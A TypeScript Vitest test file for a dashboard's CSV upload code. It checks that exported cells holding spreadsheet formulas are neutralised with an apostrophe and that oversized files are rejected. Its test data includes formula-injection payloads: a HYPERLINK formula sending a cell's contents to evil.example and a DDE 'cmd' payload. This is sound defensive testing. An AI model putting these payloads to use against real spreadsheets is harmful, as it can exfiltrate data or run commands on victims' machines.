/// <reference lib="es2025.intl" />
/// <reference path="../../src/dashboard/virtual.d.ts" />
import csv from 'papaparse'
import { expect, test } from 'vitest'
import { readCsv, writeCsv } from '../../src/dashboard/features/dataset/upload/csv.ts'
import { UPLOAD_ROWS_MAX } from '../../src/dashboard/platform/limits.ts'

function rowsIn(content: string) {
  const read = readCsv(content)
  if ('reason' in read) throw new Error(read.reason)
  return read.rows
}

const german = 'Kennung;Titel;Bundesland;Dokumentart;Abschnitte;Für Training freigegeben;Quelle'

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=1\nsecond line',
  ' =1',
  '＝1',
]

test.each(formulas)('the file of faulty rows contains no formula for a spreadsheet to run: %j', async (cell) => {
  const content = writeCsv([
    ['id', cell],
    [cell, `${cell};"`],
    ['a', 'b'],
  ])
  const cells = csv.parse<string[]>(content.slice(1), { delimiter: ';' }).data.flat()
  expect(cells.slice(1, 4)).toEqual([`'${cell}`, `'${cell}`, `'${cell};"`])
})

test('a text in the file of faulty rows is unchanged after the upload', () => {
  const rows = [...formulas.map((cell) => ['a', cell]), ['b', "'quoted'"], ['c', "d'Alembert"]]
  expect(rowsIn(writeCsv([['id', 'title'], ...rows]))).toEqual(rows)
})

test('a file of millions of line breaks, or of rows, is rejected before it is parsed', { timeout: 20_000 }, () => {
  for (const content of [
    `${german}${'\n'.repeat(16_000_000)}`,
    `${german}\n${'a;T\n'.repeat(4_000_000)}`,
    '\r'.repeat(9_000_000),
  ]) {
    expect(readCsv(content)).toEqual({ reason: 'tooManyRows' })
  }
})

test('the maximum number of rows is read, with as many blank ones between them', () => {
  const rows = Array.from({ length: UPLOAD_ROWS_MAX }, (_, n) => `d${n};T;BY;erlass;1;ja;`)
  expect(rowsIn([german, ...rows.join('\n;\n').split('\n'), ''].join('\n'))).toHaveLength(2 * UPLOAD_ROWS_MAX)
  expect(readCsv([german, ...rows, 'x;T;BY;erlass;1;ja;'].join('\n'))).toEqual({ reason: 'tooManyRows' })
})
